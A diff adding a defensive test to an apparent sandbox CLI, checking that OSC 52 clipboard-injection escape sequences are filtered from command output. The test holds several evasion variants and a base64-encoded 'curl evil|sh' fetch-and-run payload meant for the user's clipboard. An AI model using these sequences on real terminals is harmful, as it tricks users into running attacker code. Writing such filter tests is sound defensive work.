@@ -152,3 +152,29 @@ test('--review --ask: after a run again without the sandbox, the sandboxed attem
   assert.equal(fs.readFileSync(path.join(out, 'written.txt'), 'utf8'), 'hello\n')
   assert.deepEqual(fs.readdirSync(path.join(base, 'store')).filter((n) => n.startsWith('cs-')), [], 'nothing left pending')
 })
+
+test("a command's OSC 52 (set or ask for the host's clipboard) never reaches the terminal; other OSC strings do", () => {
+  // Found by an attacker's review (mode35): a read-only run's printf '\033]52;c;<base64>\a' went to
+  // the terminal as it was, and kitty, WezTerm, Alacritty, foot, Windows Terminal and tmux
+  // (set-clipboard) put its text on the host's clipboard, for the user's next paste into a shell;
+  // '\033]52;c;?\a' has a terminal that allows it type the clipboard into the command's input.
+  const parts = [
+    '\\033]52;c;Y3VybCBldmlsfHNo\\007', // BEL-terminated
+    '\\033]052;p;Y3VybCBldmlsfHNo\\033\\\\', // leading zero, ESC \ terminated
+    '\\302\\23552;c;Y3VybCBldmlsfHNo\\007', // 8-bit OSC as UTF-8 (U+009D)
+    '\\033]5\\0012;c;Y3VybCBldmlsfHNo\\007', // a C0 inside the number (tmux skips it)
+    '\\033]52;c;?\\007', // a query
+  ]
+  const fs = require('node:fs')
+  const dir = fs.mkdtempSync(path.join(require('node:os').tmpdir(), 'ss-osc52-'))
+  const file = path.join(dir, 'osc.sh')
+  fs.writeFileSync(file, `printf '${parts.join('')}A\\033]0;kept-title\\007B'; printf '\\033]5' >&2; sleep 0.2; printf '2;c;Y3VybCBldmlsfHNo\\007C' >&2; printf '\\033]5'; sleep 0.2; printf '2;c;Y3VybCBldmlsfHNo\\007D\\n'\n`)
+  for (const flags of ['', '--no-pty']) {
+    const r = scriptRun(`"${process.execPath}" "${CLI}" ${flags} -- sh ${file}`)
+    assert.equal(r.status, 0, ctx(r))
+    assert.doesNotMatch(r.stdout, /52;/, `${flags}: ${JSON.stringify(r.stdout)}`)
+    assert.match(r.stdout, /A\x1b\]0;kept-title\x07B/, `${flags}: other OSC strings pass: ${JSON.stringify(r.stdout)}`)
+    for (const c of ['C', 'D']) assert.ok(r.stdout.includes(c), `${flags}: ${c}: ${JSON.stringify(r.stdout)}`)
+  }
+  fs.rmSync(dir, { recursive: true, force: true })
+})
